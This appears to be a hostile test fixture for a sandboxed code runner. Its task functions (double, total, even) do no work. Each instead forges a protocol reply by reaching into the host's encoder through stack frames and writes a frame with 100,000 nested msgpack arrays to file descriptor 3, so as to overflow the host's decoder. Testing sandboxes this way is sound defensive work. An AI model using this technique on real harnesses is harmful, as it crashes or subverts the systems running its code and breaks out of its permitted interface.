"""Sends a value nested more deeply than the stack."""

import os
import sys

import numpy as np


def runner():
    """Find the loop that serves our calls, a few frames up."""
    frame = sys._getframe()
    while frame is not None:
        owner = frame.f_locals.get("self")
        if hasattr(owner, "transport"):
            return owner
        frame = frame.f_back


def frame(seq, op, body, forms=()):
    wire = type(runner()).answer.__globals__["wire"]
    head = wire._encoder.encode(wire.Frame(seq, op, body, list(forms)))
    return len(head).to_bytes(4, "little") + head


def forge():
    head = frame(runner().seq, "ok", None)[4:]
    start, end = head[:-2], head[-1:]
    head = start + b"\x92\xa1L\x91" * 100_000 + b"\xc0" + end
    os.write(3, len(head).to_bytes(4, "little") + head)


def double(x):
    forge()
    return None


def total(x):
    forge()
    return None


def even(f, x):
    forge()
    return None
